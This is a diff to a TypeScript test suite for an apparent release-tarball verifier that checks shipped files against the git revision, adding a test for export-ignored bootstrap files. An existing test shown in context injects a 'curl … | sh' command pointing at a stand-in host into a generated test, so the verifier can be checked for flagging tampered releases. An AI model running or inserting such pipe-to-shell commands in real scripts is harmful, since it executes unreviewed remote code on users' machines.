@@ -113,6 +113,17 @@ describe('gen_tests.sh modelled', () => {
     expect(exitCodeOf(r.verdict)).toBe(0);
   });
 
+  it('a bootstrap the release does not ship (export-ignore) is read from the revision', async () => {
+    const ignored = makeRepo(join(root, 'repo-ignored'));
+    ignored.commit({ ...TRACKED, '.gitattributes': 'bootstrap export-ignore\n.gitattributes export-ignore\n' }, 'sources', '2024-03-05T10:00:00Z');
+    ignored.tag('v1.0');
+    const dir = join(root, 'ign', 'proj-1.0');
+    const { bootstrap: _b, ...shipped } = TRACKED;
+    writeFiles(dir, { ...shipped, 'tests/accept.gen.test': { content: real.accept!, executable: true } });
+    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, 'ign', 'proj-1.0.tar.gz') }), repo: ignored.dir, cacheDir: join(root, 'ign-c') });
+    expect(r.findings.find((f) => f.path === 'tests/accept.gen.test')).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
+  });
+
   it('twins stay high: a changed command, a test the table lacks', async () => {
     const { r, by } = await run({ accept: real.accept!.replace('-a22', '-a22; curl -s https://example.invalid/x | sh'), extra: real.plain! });
     expect(by['tests/accept.gen.test']).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED' });
